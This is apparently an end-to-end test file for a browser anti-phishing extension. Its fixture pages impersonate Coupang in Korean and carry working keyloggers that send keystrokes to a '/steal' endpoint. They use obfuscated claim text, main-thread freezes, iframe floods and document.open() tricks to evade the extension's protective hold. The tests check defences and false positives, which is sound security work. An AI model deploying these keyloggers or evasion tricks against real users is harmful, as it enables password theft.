import { beforeAll, expect, test } from 'vitest';
import { forEachBrowser, poll, type Session, type Tab } from '../harness';
import { expectNoWarningFor, notWarned, startReady } from '../page-helpers';
import { attackSettled, expectPageWarning, js, stolen } from './kit';

/**
 * Red team 37 (docs/threat-model.md, "Red team 37: the kept keys"). Since hold1 the keys the user types while the
 * second chance's scorer loads are kept and typed into the box when the wait ends unarmed — at the wait's cap
 * (`WAIT_MAX_MS`, 5 s) too, with no verdict at all. A kit that makes its judgement outlast the cap (here: it
 * freezes its own main thread right after the user's press, as a heavy page does; the user's keys queue meanwhile,
 * the scorer's injection and the background's answers wait behind the freeze, and the cap is due first) is given the
 * password at the cap. The honest twin is the same page without a claim: a slow login keeps the user's typing.
 */
const settle = (ms = 1_000) => new Promise((r) => setTimeout(r, ms));

const CLAIM = `<p>쿠팡 회원정보 유출 확인 전담 창구입니다. 본인 확인을 위해 비밀번호를 입력해 주세요.</p>`;
// the claim kept out of the script's words (see spent-check.e2e.ts)
const shifted = (t: string) => Array.from(t, (c) => String.fromCharCode(c.charCodeAt(0) + 1)).join('');

/** the kit's ears: trusted keys on `window`, and every `input`/`beforeinput` with the box's value (insertText) */
const EARS = `<script>
window.steal = function (kind, data) {
  try { fetch('/steal?' + kind + '=' + encodeURIComponent(String(data).slice(0, 300)), { method: 'POST', keepalive: true }); } catch (e) {}
};
window.addEventListener('keydown', function (e) { if (e.isTrusted) steal('key', e.key); }, true);
['input', 'beforeinput'].forEach(function (t) {
  document.addEventListener(t, function (e) { steal('input', (e.data || '') + '|' + (e.target && e.target.value)); }, true);
});
</script>`;

/**
 * freezes the page's main thread for `ms`, 150 ms after the user's press on the box: the first keys are in (kept by
 * the hold), the scorer is still on its way, and its injection and the background's answer wait behind the freeze
 */
const FREEZE = (ms: number, then = '') => `
pw.addEventListener('mousedown', function (e) {
  if (!e.isTrusted || window.frozen) return;
  window.frozen = true;
  setTimeout(function () { var t = Date.now(); while (Date.now() - t < ${ms}) {} ${then} }, 150);
});`;

const page = (head: string, body: string, script: string) =>
  `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>회원 로그인</title>${head}</head><body>
${body}
<script>
var pw = document.getElementById('pw');
${script}
steal('ready', 'yes');
</script></body></html>`;

/** k1: nothing of the brand until the user's press (the scorer not here yet), then the claim; a freeze of 6.5 s */
const K1 = page(
  EARS,
  `<h1>동네 빵집 회원 로그인</h1><form onsubmit="return false"><input id="pw" type="text" name="q" style="width:320px;height:44px"></form><div id="later"></div>`,
  `
var claimed = false;
pw.addEventListener('mousedown', function (e) {
  if (!e.isTrusted || claimed) return;
  claimed = true;
  pw.type = 'password';
  var t = ${js(shifted(CLAIM))}, u = '';
  for (var i = 0; i < t.length; i++) u += String.fromCharCode(t.charCodeAt(i) - 1);
  document.getElementById('later').innerHTML = u;
});
${FREEZE(6_500, '/*FREEZE_END*/')}`,
);

/**
 * k2: the same kit, its judgement made slow without freezing the page: 300 same-origin frames, made at load with
 * nothing in them, are all given a word of the brand at the user's press: each frame's gate opens and asks the
 * background for the scorer at the same moment as the top page's second chance does, and every injection and scan
 * runs in the page's renderer before the top page's own.
 */
const K2 = page(
  EARS,
  `<h1>동네 빵집 회원 로그인</h1><form onsubmit="return false"><input id="pw" type="text" name="q" style="width:320px;height:44px"></form><div id="later"></div><div id="frames" style="position:absolute;left:-5000px;top:0;width:1000px;height:1000px;overflow:hidden"></div>`,
  `
var box = document.getElementById('frames');
for (var i = 0; i < 300; i++) { var f = document.createElement('iframe'); f.srcdoc = '<p>빵</p>'; f.style.cssText = 'width:40px;height:40px'; box.appendChild(f); }
var claimed = false;
pw.addEventListener('mousedown', function (e) {
  if (!e.isTrusted || claimed) return;
  claimed = true;
  pw.type = 'password';
  var t = ${js(shifted(CLAIM))}, u = '';
  for (var i = 0; i < t.length; i++) u += String.fromCharCode(t.charCodeAt(i) - 1);
  document.getElementById('later').innerHTML = u;
  var fs = box.querySelectorAll('iframe');
  for (var j = 0; j < fs.length; j++) try { fs[j].contentDocument.body.innerHTML = '<p>쿠팡 로켓배송 상품 ' + j + '</p>'; } catch (x) {}
});`,
);

/** k1b: k1 that takes its claim down as the freeze ends, before the cap's timer runs (the gate then reads nothing) */
const K1B = K1.replace(
  '/*FREEZE_END*/',
  "document.getElementById('later').textContent = ''; document.title = '';",
);

/** h1: an honest community login (no brand anywhere), as slow at the press */
const H1 = page(
  EARS,
  `<h1>동네 빵집 회원 로그인</h1><p>빵집 소식과 적립 포인트는 로그인 후 보실 수 있습니다.</p><form onsubmit="return false"><input id="pw" type="password" name="pw" style="width:320px;height:44px"></form>`,
  FREEZE(6_500),
);

/**
 * h2: the honest login as slow, on a page that mentions the brand (a partners' disclosure its footer draws at the
 * first press): the wait goes on past the cap while the scorer comes, and the typing is given with the clean verdict
 */
const H2 = H1.replace(
  "steal('ready'",
  `pw.addEventListener('mousedown', function () {
  if (document.getElementById('ad')) return;
  var f = document.createElement('footer');
  f.id = 'ad';
  f.textContent = '이 포스팅은 쿠팡 파트너스 활동의 일환으로, 이에 따른 일정액의 수수료를 제공받습니다.';
  document.body.appendChild(f);
});
steal('ready'`,
);

/** h3: an honest savings bank's transfer form (no word of the brand), as slow at the press on its PIN box */
const H3 = page(
  EARS,
  `<h1>한빛저축은행 이체</h1><form onsubmit="return false"><label>받는 분 <input id="who" name="who" style="width:320px;height:44px"></label>
<label>계좌 비밀번호 <input id="pw" type="password" name="pin" inputmode="numeric" style="width:320px;height:44px"></label></form>`,
  FREEZE(6_500),
);

/**
 * k3: `document.open()` during the wait: the new document's keylogger is registered before the hold's listeners. It
 * reports as `written`: the first page's own ears (`key`, behind the hold) may hear a key typed before the page's
 * open runs on a busy machine — a page with no claim yet, as any page's listener does — and are not what is measured
 */
const K3 = page(
  EARS,
  `<h1>동네 빵집 회원 로그인</h1><form onsubmit="return false"><input id="pw" type="password" name="pw" style="width:320px;height:44px"></form>`,
  `
pw.addEventListener('click', function (e) {
  if (!e.isTrusted || window.opened) return;
  window.opened = true;
  setTimeout(function () {
    var t = ${js(shifted(CLAIM))}, u = '';
    for (var i = 0; i < t.length; i++) u += String.fromCharCode(t.charCodeAt(i) - 1);
    document.open();
    document.write('<!doctype html><meta charset="utf-8"><body>' + u + '<input id="pw2" type="password"><scr' + 'ipt>' +
      'window.addEventListener("keydown", function (e) { if (e.isTrusted) fetch("/steal?written=" + encodeURIComponent(e.key), { method: "POST", keepalive: true }); }, true);' +
      '</scr' + 'ipt></body>');
    document.close();
  }, 0);
});`,
);

/** the kit's keylogger as the written document registers it: now, and again a microtask, a task and every 30 ms later */
const LOGGER =
  'function log(e) { if (e.isTrusted) fetch("/steal?written=" + encodeURIComponent(e.key), { method: "POST", keepalive: true }); }' +
  'function listen() { window.addEventListener("keydown", log, true); document.addEventListener("keydown", log, true); }' +
  'listen(); queueMicrotask(listen); setTimeout(listen, 0); setInterval(listen, 30);';

/** k3b: k3 whose written document registers its keylogger again and again after its document.open() */
const K3B = K3.replace(
  `'window.addEventListener("keydown", function (e) { if (e.isTrusted) fetch("/steal?written=" + encodeURIComponent(e.key), { method: "POST", keepalive: true }); }, true);'`,
  js(LOGGER),
);

/**
 * k3c: the document.open() before the press: once the page is in place it writes a plain login (no word of the
 * brand) with its keylogger; the claim goes up at the user's press on the written box
 */
const K3C = page(
  EARS,
  `<h1>동네 빵집 회원 로그인</h1>`,
  `
setTimeout(function () {
  var t = ${js(shifted(CLAIM))};
  document.open();
  document.write('<!doctype html><meta charset="utf-8"><body><h1>동네 빵집 회원 로그인</h1><div id="later"></div><input id="pw2" type="password" style="width:320px;height:44px"><scr' + 'ipt>' +
    ${js(LOGGER)} +
    'var pw2 = document.getElementById("pw2"), claimed = false, t = ' + JSON.stringify(t) + ';' +
    'pw2.addEventListener("mousedown", function (e) { if (!e.isTrusted || claimed) return; claimed = true; var u = ""; for (var i = 0; i < t.length; i++) u += String.fromCharCode(t.charCodeAt(i) - 1); document.getElementById("later").innerHTML = u; });' +
    'fetch("/steal?opened=yes", { method: "POST" });' +
    '</scr' + 'ipt></body>');
  document.close();
}, 200);`,
);

/**
 * h4: an honest login the page writes with document.open() at load (an old-style loader), its script registering a
 * window key listener (Enter submits) in the same task: no press came before, so its listener is its own
 */
const H4 = `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>로딩 중</title></head><body><p>로딩 중…</p>
<script>
setTimeout(function () {
  document.open();
  document.write('<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>회원 로그인</title></head><body><h1>동네 빵집 회원 로그인</h1>' +
    '<form onsubmit="return false"><input id="pw" type="password" name="pw" style="width:320px;height:44px"></form><scr' + 'ipt>' +
    'window.seen = 0; window.addEventListener("keydown", function (e) { if (e.isTrusted) window.seen++; }, true);' +
    'document.addEventListener("input", function () { window.inputs = (window.inputs || 0) + 1; });' +
    '</scr' + 'ipt></body></html>');
  document.close();
}, 100);
</script></body></html>`;

/**
 * h5: an honest old page that answers the login button with document.write (an implicit document.open(): a page
 * that only says to wait, no field, no word of the brand), its script listening for Escape on the window
 */
const H5 = page(
  '',
  `<h1>동네 빵집 회원 로그인</h1><form onsubmit="return false"><input id="pw" type="password" name="pw" style="width:320px;height:44px"><button id="go" type="button" style="width:120px;height:44px">로그인</button></form>`,
  `
window.steal = function () {};
document.getElementById('go').addEventListener('click', function () {
  var typed = pw.value;
  document.write('<!doctype html><meta charset="utf-8"><body><p>로그인 중입니다. 잠시만 기다려 주세요.</p><scr' + 'ipt>' +
    'window.typed = ' + JSON.stringify(typed) + '; window.seen = 0; window.addEventListener("keydown", function (e) { if (e.isTrusted) window.seen++; }, true);' +
    '</scr' + 'ipt></body>');
  document.close();
});`,
);

/**
 * h6: h5 whose written page has a field of its own (the member page's order search: a field opens the gate), still
 * no word of the brand: the hold does not take the window back, so the window listener the written script registered
 * stays the page's
 */
const H6 = H5.replace(
  '<p>로그인 중입니다. 잠시만 기다려 주세요.</p>',
  '<h1>회원 페이지</h1><label>주문 조회 <input id="q" name="q" style="width:320px;height:44px"></label>',
);

/**
 * The user clicks the box and types at once; the keys go out as the user's would during a freeze: each dispatched
 * without waiting for the page to take the last one (a frozen page takes none until the freeze ends).
 */
/** What the kit sent home carrying a character of the password typed (its "ready" beacon aside). */
function typedStolen(server: Parameters<typeof stolen>[0], host: string): string[] {
  return stolen(server, host)
    .map((r) => decodeURIComponent(r.path))
    .filter((p) => !p.startsWith('/steal?ready='))
    .filter((p) => /[hunter2]/.test(p.replace(/^\/steal\?\w+=/, '')));
}

async function clickAndType(tab: Tab, selector: string, text: string, gap = 60): Promise<void> {
  const box = await tab.evaluate((sel: string) => {
    const r = document.querySelector(sel)!.getBoundingClientRect();
    return { x: r.left + r.width / 2, y: r.top + r.height / 2 };
  }, selector);
  await tab.mouseClick(box.x, box.y);
  const keys: Promise<void>[] = [];
  for (const c of text) {
    keys.push(tab.keyboard(c).catch(() => undefined));
    await settle(gap);
  }
  await Promise.all(keys);
}

forEachBrowser('hostile: red team 37, the kept keys', (ctx) => {
  let s: Session;
  beforeAll(async () => {
    s = await startReady(ctx);
  });

  test('k1. a kit that makes its judgement outlast the cap is not given the keys typed during the wait', async () => {
    const host = 'kept-cap.example.test';
    ctx.server.page(host, '/login', K1);
    const tab = await s.newTab(ctx.server.url(host, '/login'));
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    expect(await notWarned(s, tab)).toBe(true);
    await clickAndType(tab, '#pw', 'hunter2');
    await settle(3_000);
    expect(typedStolen(ctx.server, host)).toEqual([]);
    const w = await expectPageWarning(s, tab, 15_000);
    expect(w.kind).toBe('suspicious-page');
    await tab.close();
  });

  test('k1b. the same kit taking its claim down before the cap is not given the keys either', async () => {
    const host = 'kept-cap-down.example.test';
    ctx.server.page(host, '/login', K1B);
    const tab = await s.newTab(ctx.server.url(host, '/login'));
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    expect(await notWarned(s, tab)).toBe(true);
    await clickAndType(tab, '#pw', 'hunter2');
    await settle(3_000);
    expect(typedStolen(ctx.server, host)).toEqual([]);
    await tab.close();
  });

  test('k2. a kit whose frames keep the scorer busy is not given the keys typed during the wait', async () => {
    const host = 'kept-busy.example.test';
    ctx.server.page(host, '/login', K2);
    const tab = await s.newTab(ctx.server.url(host, '/login'));
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    await settle(2_000);
    expect(await notWarned(s, tab)).toBe(true);
    await clickAndType(tab, '#pw', 'hunter2');
    await settle(7_000);
    expect(typedStolen(ctx.server, host)).toEqual([]);
    const w = await expectPageWarning(s, tab, 15_000);
    expect(w.kind).toBe('suspicious-page');
    await tab.close();
  });

  test('h1. an honest login as slow keeps what the user typed during the wait', async () => {
    const host = 'slow-bakery.example.test';
    ctx.server.page(host, '/login', H1);
    const tab = await s.newTab(ctx.server.url(host, '/login'));
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    await clickAndType(tab, '#pw', 'hunter2');
    await settle(2_000);
    await expectNoWarningFor(tab, 2_000);
    expect(await tab.evaluate(() => (document.getElementById('pw') as HTMLInputElement).value)).toBe(
      'hunter2',
    );
    await tab.close();
  });

  test('h2. the same slow login mentioning the brand keeps the typing too (given with the verdict)', async () => {
    const host = 'slow-partners.example.test';
    ctx.server.page(host, '/login', H2);
    const tab = await s.newTab(ctx.server.url(host, '/login'));
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    await clickAndType(tab, '#pw', 'hunter2');
    await settle(2_000);
    await expectNoWarningFor(tab, 2_000);
    expect(await tab.evaluate(() => (document.getElementById('pw') as HTMLInputElement).value)).toBe(
      'hunter2',
    );
    await tab.close();
  });

  test.skipIf(ctx.name !== 'chromium')(
    'h3. a Korean input-method user on an honest, slow bank form: the PIN typed during the wait and the name composed after are both in',
    async () => {
      const host = 'hanbit-bank.example.test';
      ctx.server.page(host, '/transfer', H3);
      const tab = await s.newTab(ctx.server.url(host, '/transfer'));
      await tab.bringToFront();
      await attackSettled(s, tab, ctx.server, host);
      await clickAndType(tab, '#pw', '1234');
      await settle(2_000);
      const at = await tab.evaluate(() => {
        const r = document.getElementById('who')!.getBoundingClientRect();
        return { x: r.left + r.width / 2, y: r.top + r.height / 2 };
      });
      await tab.mouseClick(at.x, at.y);
      await tab.compose!(['ㅎ', '호', '홍'], '홍');
      await tab.compose!(['ㄱ', '기', '길'], '길');
      await expectNoWarningFor(tab, 2_000);
      expect(
        await tab.evaluate(() =>
          ['pw', 'who'].map((id) => (document.getElementById(id) as HTMLInputElement).value),
        ),
      ).toEqual(['1234', '홍길']);
      await tab.close();
    },
  );

  // docs/threat-model.md, red team 37 class B: document.open() erases the window's listeners, ours included, and
  // the new document's script registers its keylogger in the same task, before the hold puts its own back; it saw
  // the keys ahead of the hold until the warning (2 keys in Chromium, 5 in Firefox). Now the hold takes the window
  // back (its own document.open(), the page's nodes put back) in the observer's microtask, before any key.
  test('k3. a document.open() during the wait: the new document does not read the keys', async () => {
    const host = 'kept-open.example.test';
    ctx.server.page(host, '/login', K3);
    const tab = await s.newTab(ctx.server.url(host, '/login'));
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    await clickAndType(tab, '#pw', 'hunter2');
    await settle(3_000);
    expect(stolen(ctx.server, host, 'written').map((r) => r.path)).toEqual([]);
    const w = await expectPageWarning(s, tab, 15_000);
    expect(w.kind).toBe('suspicious-page');
    await tab.close();
  });

  test("k3 at a user's pace (100 ms a key): the new document does not read the keys", async () => {
    const host = 'kept-open-pace.example.test';
    ctx.server.page(host, '/login', K3);
    const tab = await s.newTab(ctx.server.url(host, '/login'));
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    await clickAndType(tab, '#pw', 'hunter2', 100);
    await settle(3_000);
    expect(stolen(ctx.server, host, 'written').map((r) => r.path)).toEqual([]);
    await tab.close();
  });

  test('k3b. a written keylogger registered again after the document.open() does not read the keys either', async () => {
    const host = 'kept-open-again.example.test';
    ctx.server.page(host, '/login', K3B);
    const tab = await s.newTab(ctx.server.url(host, '/login'));
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    await clickAndType(tab, '#pw', 'hunter2');
    await settle(3_000);
    expect(stolen(ctx.server, host, 'written').map((r) => r.path)).toEqual([]);
    const w = await expectPageWarning(s, tab, 15_000);
    expect(w.kind).toBe('suspicious-page');
    await tab.close();
  });

  test('k3c. a document.open() before the press, the claim at the press: the keylogger does not read the keys', async () => {
    const host = 'kept-open-early.example.test';
    ctx.server.page(host, '/login', K3C);
    const tab = await s.newTab(ctx.server.url(host, '/login'));
    await tab.bringToFront();
    await poll(
      async () => stolen(ctx.server, host, 'opened').length > 0,
      (ok) => ok,
      20_000,
      'the written document',
    );
    await settle(1_500);
    await clickAndType(tab, '#pw2', 'hunter2');
    await settle(3_000);
    expect(stolen(ctx.server, host, 'written').map((r) => r.path)).toEqual([]);
    const w = await expectPageWarning(s, tab, 15_000);
    expect(w.kind).toBe('suspicious-page');
    await tab.close();
  });

  test('h4. an honest login written with document.open() at load keeps its own key listener and the typing', async () => {
    const host = 'written-bakery.example.test';
    ctx.server.page(host, '/login', H4);
    const tab = await s.newTab(ctx.server.url(host, '/login'));
    await tab.bringToFront();
    await tab.waitFor(() => document.getElementById('pw') !== null, undefined, 10_000);
    await settle(1_500);
    await clickAndType(tab, '#pw', 'hunter2', 100);
    await settle(1_000);
    await expectNoWarningFor(tab, 2_000);
    expect(
      await tab.evaluate(() => ({
        value: (document.getElementById('pw') as HTMLInputElement).value,
        seen: (window as unknown as { seen: number }).seen,
      })),
    ).toEqual({ value: 'hunter2', seen: 7 });
    await tab.close();
  });

  /** h5, h6: the user signs in, the page answers the button with the page it writes, and a key is pressed there */
  async function signInToWrittenPage(host: string, html: string) {
    ctx.server.page(host, '/login', html);
    const tab = await s.newTab(ctx.server.url(host, '/login'));
    await tab.bringToFront();
    await tab.waitFor(() => document.getElementById('go') !== null, undefined, 10_000);
    await settle(1_500);
    await clickAndType(tab, '#pw', 'hunter2', 100);
    await settle(1_000);
    const go = await tab.evaluate(() => {
      const r = document.getElementById('go')!.getBoundingClientRect();
      return { x: r.left + r.width / 2, y: r.top + r.height / 2 };
    });
    await tab.mouseClick(go.x, go.y);
    await settle(500);
    await tab.keyboard('x');
    await settle(500);
    await expectNoWarningFor(tab, 1_500);
    const seen = await tab.evaluate(() => {
      const w = window as unknown as { seen: number; typed: string };
      return { typed: w.typed, seen: w.seen };
    });
    await tab.close();
    return seen;
  }

  test('h5. an honest page that answers its login button with document.write() keeps the listener it wrote', async () => {
    expect(await signInToWrittenPage('written-wait.example.test', H5)).toEqual({ typed: 'hunter2', seen: 1 });
  });

  test('h6. the same with a field on the written page (no word of the brand) keeps the listener it wrote', async () => {
    expect(await signInToWrittenPage('written-field.example.test', H6)).toEqual({
      typed: 'hunter2',
      seen: 1,
    });
  });
});
